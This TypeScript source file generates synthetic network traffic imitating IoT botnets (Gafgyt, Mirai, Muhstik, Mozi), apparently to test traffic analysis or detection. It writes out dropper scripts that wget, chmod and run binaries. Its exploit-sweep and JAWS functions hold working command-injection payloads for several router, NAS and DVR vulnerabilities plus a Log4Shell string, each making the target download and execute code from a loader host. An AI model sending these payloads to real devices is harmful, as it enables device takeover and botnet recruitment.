// Behaviour of IoT botnets other than Mirai's scanner, as packets: droppers fetching ELF binaries, text and IRC C2, dead-C2 retries, inbound exploits, BitTorrent DHT.
//
// Synthetic traffic. Each generator names the published analysis it follows:
// - Gafgyt/Bashlite: the leaked client.c (github.com/ifding/iot-malware BASHLITE/client.c): the bot greets its C2 with
//   "BUILD <ARCH>", answers a bare "PING" with "PONG", takes orders as "!<mask> COMMAND args" ("!* SCANNER ON").
// - Mirai's loader and download folder: Antonakakis et al., "Understanding the Mirai Botnet" (USENIX Security 2017) and
//   github.com/jgamblin/Mirai-Source-Code (mirai/build.sh names the per-architecture binaries).
// - IRC bots (Muhstik, Tsunami/Kaiten): RFC 2812 registration (NICK, USER, JOIN), server PING / client PONG; the Muhstik
//   check-in "USER muhstik ... :muhstik-<n>" is the one Emerging Threats sid 2029319 documents (Unit 42, 2019).
// - Dead C2: Linux connect() retransmits an unanswered SYN after 1, 2, 4, 8 s (RFC 6298 backoff); the bot tries again
//   every 60-120 s (the real capture of issue #11).
// - Inbound JAWS/MVPower DVR exploit: exploit-db 41471 (`GET /shell?cd+/tmp;rm+-rf+*;wget+http://IP/x;sh+/tmp/x`).
// - Mozi: Netlab 360, "Mozi, Another Botnet Using DHT" (2019): standard BEP 5 KRPC (ping, find_node, get_peers) to
//   bootstrap nodes and peers on UDP.
import { TCP, concat, httpRequest, httpResponse, tcpFrame, text, udpFrame } from './packets.js';
import { S, type Host, type Scene } from './scene.js';

/** ELF e_machine numbers (System V ABI, gABI ch. 4 "ELF Header"). */
export const ELF_MACHINE = { sparc: 2, x86: 3, m68k: 4, mips: 8, powerpc: 20, arm: 40, sh: 42, x86_64: 62, aarch64: 183 } as const;
export type ElfArch = keyof typeof ELF_MACHINE;

/** The first bytes of a static Linux executable of an architecture (ELF header, then filler bytes). */
export function elfImage(arch: ElfArch, rand: () => number, size = 1200, bigEndian = arch === 'mips' || arch === 'powerpc' || arch === 'sparc' || arch === 'm68k'): Uint8Array {
  const b = new Uint8Array(size);
  b.set([0x7f, 0x45, 0x4c, 0x46], 0);
  const is64 = arch === 'x86_64' || arch === 'aarch64';
  b[4] = is64 ? 2 : 1; // EI_CLASS
  b[5] = bigEndian ? 2 : 1; // EI_DATA
  b[6] = 1; // EI_VERSION
  const u16 = (off: number, v: number): void => {
    if (bigEndian) { b[off] = v >> 8; b[off + 1] = v & 255; } else { b[off] = v & 255; b[off + 1] = v >> 8; }
  };
  u16(16, 2); // e_type ET_EXEC
  u16(18, ELF_MACHINE[arch]);
  b[bigEndian ? 23 : 20] = 1; // e_version
  for (let i = 64; i < size; i++) b[i] = rand() & 255;
  return b;
}

/** A busybox-wget style request for a file (HTTP/1.0-ish headers busybox sends: Host, User-Agent Wget, Connection). */
function wgetRequest(host: string, uri: string, keepAlive: boolean): Uint8Array {
  return httpRequest('GET', uri, { Host: host, 'User-Agent': 'Wget', Connection: keepAlive ? 'keep-alive' : 'close' });
}

function fileResponse(body: Uint8Array, keepAlive: boolean, type = 'application/octet-stream'): Uint8Array {
  return concat(httpResponse(200, 'OK', {
    Server: 'Apache/2.4.29 (Ubuntu)', 'Content-Length': String(body.length), 'Content-Type': type,
    Connection: keepAlive ? 'Keep-Alive' : 'close',
  }), body);
}

/**
 * Gafgyt dropper: `cd /tmp; wget http://IP/bins.sh; sh bins.sh`, the script fetching one binary per architecture with
 * innocent names (/ntpd, /sshd, /bash, as in the capture of issue #11). One connection per file (busybox wget).
 * Returns the end time.
 */
export function gafgytDownload(sc: Scene, bot: Host, server: Host, t: number, files: [string, ElfArch][]): number {
  const host = server.ip;
  const script = text(`#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt || cd /root || cd /\n` +
    files.map(([name]) => `wget http://${host}${name}; chmod +x ${name.slice(1)}; ./${name.slice(1)}; rm -rf ${name.slice(1)}\n`).join(''));
  let end = sc.tcpSession(bot, server, { t, dport: 80, exchanges: [
    { from: 'c', data: wgetRequest(host, '/bins.sh', false) },
    { from: 's', data: fileResponse(script, false, 'text/x-sh'), dt: 60_000 },
  ] });
  for (const [name, arch] of files) {
    end = sc.tcpSession(bot, server, { t: end + 300_000, dport: 80, exchanges: [
      { from: 'c', data: wgetRequest(host, name, false) },
      { from: 's', data: fileResponse(elfImage(arch, sc.rand), false), dt: 60_000 },
    ] });
  }
  return end;
}

/**
 * Gafgyt C2 session on a telnet port, as client.c runs it: "BUILD <ARCH>" on connect, "PONG" to each bare "PING",
 * then the orders. `orders` are [seconds after connect, line].
 */
export function gafgytC2(sc: Scene, bot: Host, cnc: Host, t: number, o: { dport?: number; arch?: string; pings: number; pingEvery: number; orders: [number, string][] }): number {
  const ex: { from: 'c' | 's'; data: Uint8Array; dt?: number }[] = [{ from: 'c', data: text(`BUILD ${o.arch ?? 'ARM'}\n`), dt: 200_000 }];
  const timeline: [number, 'ping' | string][] = [];
  for (let i = 1; i <= o.pings; i++) timeline.push([i * o.pingEvery, 'ping']);
  for (const [at, line] of o.orders) timeline.push([at, line]);
  timeline.sort((a, b) => a[0] - b[0]);
  let last = 0;
  for (const [at, what] of timeline) {
    const dt = Math.max(1000, (at - last) * S);
    last = at;
    if (what === 'ping') {
      ex.push({ from: 's', data: text('PING\n'), dt }, { from: 'c', data: text('PONG\n'), dt: 30_000 });
    } else {
      ex.push({ from: 's', data: text(`${what}\n`), dt });
    }
  }
  return sc.tcpSession(bot, cnc, { t, dport: o.dport ?? 23, exchanges: ex, close: 'none' });
}

/**
 * Mirai's download folder fetched over ONE kept-open HTTP connection: every per-architecture binary of
 * mirai/build.sh (mirai.arm, .arm5n, .arm7, .mips, .mpsl, .x86, .ppc, .m68k, .sh4, .spc), one request after the other.
 */
export function miraiFolderKeepAlive(sc: Scene, bot: Host, server: Host, t: number): number {
  const bins: [string, ElfArch][] = [
    ['arm', 'arm'], ['arm5n', 'arm'], ['arm7', 'arm'], ['mips', 'mips'], ['mpsl', 'mips'], ['x86', 'x86'],
    ['ppc', 'powerpc'], ['m68k', 'm68k'], ['sh4', 'sh'], ['spc', 'sparc'],
  ];
  const ex: { from: 'c' | 's'; data: Uint8Array; dt?: number }[] = [];
  for (const [suffix, arch] of bins) {
    ex.push({ from: 'c', data: wgetRequest(server.ip, `/bins/mirai.${suffix}`, true), dt: 150_000 });
    // mipsel is little-endian MIPS.
    ex.push({ from: 's', data: fileResponse(elfImage(arch, sc.rand, 1200, suffix === 'mpsl' ? false : undefined), true), dt: 60_000 });
  }
  return sc.tcpSession(bot, server, { t, dport: 80, exchanges: ex });
}

/**
 * An IRC bot's session (Muhstik-like): registration, JOIN of the C2 channel, server PINGs answered with PONG, then
 * channel orders. The port is whatever the C2 chose (not 6667). Returns the end time.
 */
export function ircBot(sc: Scene, bot: Host, server: Host, t: number, o: { dport: number; nick: string; channel: string; pings: number; pingEvery: number; orders: string[] }): number {
  const srv = 'irc.x';
  const ex: { from: 'c' | 's'; data: Uint8Array; dt?: number }[] = [
    { from: 'c', data: text(`NICK ${o.nick}\nUSER muhstik localhost localhost :muhstik-${o.nick.slice(-5)}\n`), dt: 100_000 },
    { from: 's', data: text(`:${srv} 001 ${o.nick} :Welcome\r\n:${srv} 376 ${o.nick} :End of /MOTD command.\r\n`), dt: 300_000 },
    { from: 'c', data: text(`JOIN ${o.channel} :\n`), dt: 100_000 },
    { from: 's', data: text(`:${o.nick}!muhstik@${bot.ip} JOIN :${o.channel}\r\n:${srv} 332 ${o.nick} ${o.channel} :\r\n`), dt: 100_000 },
  ];
  for (let i = 0; i < o.pings; i++) {
    ex.push({ from: 's', data: text(`PING :${srv}\r\n`), dt: o.pingEvery * S });
    ex.push({ from: 'c', data: text(`PONG :${srv}\n`), dt: 40_000 });
  }
  for (const order of o.orders) ex.push({ from: 's', data: text(`:op!op@h PRIVMSG ${o.channel} :${order}\r\n`), dt: 5 * S });
  return sc.tcpSession(bot, server, { t, dport: o.dport, exchanges: ex, close: 'none' });
}

/**
 * Connection attempts nobody answers: each a SYN and its retransmissions after 1, 2, 4 and 8 s (RFC 6298 backoff, same
 * source port), a new attempt (new source port) every `gapMin`..`gapMax` seconds. Returns the attempt start times.
 */
export function deadC2Retries(sc: Scene, bot: Host, cnc: string, dport: number, t: number, attempts: number, gapMin = 60, gapMax = 120): number[] {
  const starts: number[] = [];
  let at = t;
  for (let k = 0; k < attempts; k++) {
    starts.push(at);
    const sport = sc.ephemeral();
    const seq = sc.rand();
    let off = 0;
    for (const backoff of [0, 1, 2, 4, 8]) {
      off += backoff;
      sc.at(at + off * S, tcpFrame(bot.mac, sc.router.mac, bot.ip, cnc, {
        sport, dport, seq, flags: TCP.SYN, window: 29200,
        options: Uint8Array.of(2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7),
      }, undefined, 64, sc.id()));
    }
    at += (gapMin + (sc.rand() % (gapMax - gapMin + 1))) * S;
  }
  return starts;
}

/** The JAWS /shell exploit of exploit-db 41471, from an internet scanner to a DVR's forwarded web port. */
export function jawsExploit(sc: Scene, attacker: Host, dvr: Host, t: number, loaderIp: string, dport = 80): number {
  const uri = `/shell?cd+/tmp;rm+-rf+*;wget+http://${loaderIp}/jaws;sh+/tmp/jaws`;
  const req = httpRequest('GET', uri, { 'User-Agent': 'Hello, World', Host: `${dvr.ip}:${dport}`, Connection: 'close' });
  const res = httpResponse(200, 'OK', { Server: 'JAWS/1.0', 'Content-Type': 'text/plain', Connection: 'close' }, '');
  return sc.tcpSession(attacker, dvr, { t, dport, exchanges: [{ from: 'c', data: req }, { from: 's', data: res }] });
}

/** The dropper the JAWS command fetches (a script naming wget) and the binary it then fetches. */
export function jawsFollowUp(sc: Scene, dvr: Host, loader: Host, t: number): number {
  const script = text(`#!/bin/sh\ncd /tmp; wget http://${loader.ip}/bins/x.arm7 -O x; chmod 777 x; ./x jaws\n`);
  const t1 = sc.tcpSession(dvr, loader, { t, dport: 80, exchanges: [
    { from: 'c', data: wgetRequest(loader.ip, '/jaws', false) },
    { from: 's', data: fileResponse(script, false, 'text/plain'), dt: 60_000 },
  ] });
  return sc.tcpSession(dvr, loader, { t: t1 + 500_000, dport: 80, exchanges: [
    { from: 'c', data: wgetRequest(loader.ip, '/bins/x.arm7', false) },
    { from: 's', data: fileResponse(elfImage('arm', sc.rand), false), dt: 60_000 },
  ] });
}

// ---- BitTorrent DHT (BEP 5): bencoding of the KRPC messages ----

function bstr(s: Uint8Array): Uint8Array {
  return concat(text(`${s.length}:`), s);
}

/** A KRPC query dict, keys in sorted order as bencoding requires: a (args), q, t, y. */
export function krpcQuery(method: 'ping' | 'find_node' | 'get_peers', nodeId: Uint8Array, target: Uint8Array, tid: number): Uint8Array {
  // Keys of the argument dict sorted too: id < info_hash < target.
  const args: Uint8Array[] = [text('d'), bstr(text('id')), bstr(nodeId)];
  if (method === 'get_peers') args.push(bstr(text('info_hash')), bstr(target));
  if (method === 'find_node') args.push(bstr(text('target')), bstr(target));
  args.push(text('e'));
  const t = Uint8Array.of((tid >> 8) & 255, tid & 255);
  return concat(text('d'), bstr(text('a')), ...args, bstr(text('q')), bstr(text(method)), bstr(text('t')), bstr(t),
    bstr(text('y')), bstr(text('q')), text('e'));
}

/** Mozi-style DHT chatter: find_node/get_peers/ping to `peers` public nodes on random high ports, `gap` µs apart. */
export function moziDht(sc: Scene, bot: Host, t: number, peers: string[], gap = 700_000): void {
  const id = Uint8Array.from({ length: 20 }, () => sc.rand() & 255);
  const sport = 10_000 + (sc.rand() % 50_000);
  const methods = ['find_node', 'get_peers', 'ping'] as const;
  peers.forEach((peer, i) => {
    const target = Uint8Array.from({ length: 20 }, () => sc.rand() & 255);
    const dport = i < 4 ? 6881 : 1024 + (sc.rand() % 60_000);
    sc.at(t + i * gap, udpFrame(bot.mac, sc.router.mac, bot.ip, peer, sport, dport, krpcQuery(methods[i % 3]!, id, target, i), 64, sc.id()));
  });
}

/**
 * A TFTP fetch as Gafgyt droppers run it where wget is missing (`tftp -g -r mips IP`): RRQ (RFC 1350 5) from the bot to
 * the server's port 69, DATA blocks of 512 bytes from a new server port (TID), each ACKed. Returns the end time.
 */
export function tftpFetch(sc: Scene, bot: Host, server: Host, t: number, filename: string, body: Uint8Array): number {
  const cport = sc.ephemeral();
  const sport = sc.ephemeral();
  const rrq = concat(Uint8Array.of(0, 1), text(filename), Uint8Array.of(0), text('octet'), Uint8Array.of(0));
  sc.at(t, udpFrame(bot.mac, sc.router.mac, bot.ip, server.ip, cport, 69, rrq, 64, sc.id()));
  let at = t + 40_000;
  for (let block = 1, off = 0; off <= body.length; block++, off += 512) {
    const chunk = body.subarray(off, off + 512);
    sc.at(at, udpFrame(sc.router.mac, bot.mac, server.ip, bot.ip, sport, cport, concat(Uint8Array.of(0, 3, block >> 8, block & 255), chunk), 52, sc.id()));
    sc.at(at + 20_000, udpFrame(bot.mac, sc.router.mac, bot.ip, server.ip, cport, sport, Uint8Array.of(0, 4, block >> 8, block & 255), 64, sc.id()));
    at += 40_000;
    if (chunk.length < 512) break;
  }
  return at;
}

/** What an exposed device receives from internet scanners in a day: the exploits IoT botnets carry, one request each. */
export function exploitSweep(sc: Scene, dvr: Host, t: number, loaderIp: string): number {
  const dl = `wget+http://${loaderIp}/x+-O+/tmp/x;sh+/tmp/x`;
  const reqs: [number, string, string, Record<string, string>, string][] = [
    // CVE-2018-10561/10562 (GPON): auth bypass "?images/", command in dest_host.
    [80, 'POST', '/GponForm/diag_Form?images/', { 'User-Agent': 'Hello, World' }, `XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=\`busybox+${dl}\`;&ipv=0`],
    // CVE-2017-17215 (Huawei HG532, port 37215): command in NewStatusURL.
    [37215, 'POST', '/ctrlt/DeviceUpgrade_1', { 'Content-Type': 'text/xml', Authorization: 'Digest username="dslf-config"' },
      `<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget -g ${loaderIp} -l /tmp/x -r /mips)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>`],
    // CVE-2014-8361 (Realtek miniigd, port 52869): command in NewInternalClient.
    [52869, 'POST', '/picsdesc.xml', { SOAPAction: 'urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping' },
      `<?xml version="1.0" ?><s:Envelope><s:Body><u:AddPortMapping><NewInternalClient>\`cd /var; wget http://${loaderIp}/r; sh r\`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>`],
    // CVE-2024-12847 (Netgear DGN1000 setup.cgi syscmd).
    [80, 'GET', `/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;${dl}&curpath=/&currentsetting.htm=1`, {}, ''],
    // CVE-2018-20062 (ThinkPHP 5.x invokefunction).
    [80, 'GET', `/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=${dl}`, {}, ''],
    // CVE-2020-9054 (Zyxel NAS weblogin.cgi username).
    [80, 'GET', `/adv,/cgi-bin/weblogin.cgi?username=admin';cd+/tmp;${dl}&password=asdf`, {}, ''],
    // CVE-2015-2051 (D-Link HNAP1: command in the SOAPAction header).
    [80, 'POST', '/HNAP1/', { SOAPAction: `http://purenetworks.com/HNAP1/\`cd /tmp && wget http://${loaderIp}/d && sh d\`` }, ''],
    // CVE-2021-44228 (Log4Shell in the URI).
    [80, 'GET', '/?id=${jndi:ldap://' + loaderIp + ':1389/a}', {}, ''],
  ];
  let at = t;
  for (const [dport, method, uri, headers, body] of reqs) {
    const req = concat(httpRequest(method, uri, { Host: `${dvr.ip}:${dport}`, ...headers, ...(body ? { 'Content-Length': String(body.length) } : {}), Connection: 'close' }), text(body));
    const res = httpResponse(404, 'Not Found', { Server: 'JAWS/1.0', 'Content-Length': '0', Connection: 'close' });
    at = sc.tcpSession(sc.remote(`45.148.10.${80 + (at % 7)}`), dvr, { t: at, dport, exchanges: [{ from: 'c', data: req }, { from: 's', data: res }] }) + 20 * S;
  }
  return at;
}
